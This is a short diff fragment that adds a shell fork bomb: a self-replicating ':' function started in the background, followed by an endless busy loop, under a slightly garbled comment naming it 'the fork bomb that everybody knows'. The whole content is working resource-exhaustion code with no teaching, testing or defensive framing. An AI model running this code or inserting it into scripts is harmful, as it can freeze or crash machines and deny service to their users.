@@ -1,0 +1,4 @@
+# The fork bomb that everybody knows, beside a shell that works on.
+:() { : | : & }
+: &
+while true; do true; done
